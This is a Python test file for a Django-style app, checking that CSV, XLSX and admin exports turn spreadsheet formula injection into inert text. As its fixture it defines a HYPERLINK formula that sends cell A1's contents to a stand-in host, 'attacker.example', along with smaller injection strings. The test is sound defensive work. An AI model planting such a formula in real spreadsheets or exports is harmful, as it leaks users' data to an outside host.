"""Exports opened in a spreadsheet: a record's text never runs there as a formula, in the
public exports and in the admin's CSV action alike (both written by cooperation/exports.py;
the exports read by other programs: tests/test_interop_exports.py)."""

import csv
import io

import openpyxl

from cooperation import records

FORMULA = '=HYPERLINK("https://attacker.example/?"&A1,"Open")'


def read_csv(response):
    raw = b"".join(response.streaming_content)
    assert raw.startswith(b"\xef\xbb\xbf")  # UTF-8, said so to Excel
    return list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))


def test_a_formula_in_a_record_reaches_a_spreadsheet_as_text(client, admin_client, world):
    world.published.title = FORMULA
    world.published.summary = "-2+3\n=1+1;@SUM(A1)"
    records.save(world.published)

    header, *rows = read_csv(client.get("/events/export.csv"))
    row = dict(zip(header, rows[0], strict=True))
    assert row["title"] == "'" + FORMULA
    assert row["summary"] == "'-2+3\n'=1+1;'@SUM(A1)"
    assert row["start_date"] == "2023-12-15"  # an ordinary value is left as it is

    response = client.get("/events/export.xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content))).active
    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
    assert cells[FORMULA] == "s"  # the text itself, as a string, not a formula

    response = admin_client.post(
        "/admin/cooperation/delegation/",
        {"action": "export_csv", "index": "0", "_selected_action": [world.published.pk]},
    )
    cells = [cell for row in read_csv(response)[1:] for cell in row]
    assert "'" + FORMULA in cells
    assert FORMULA not in cells
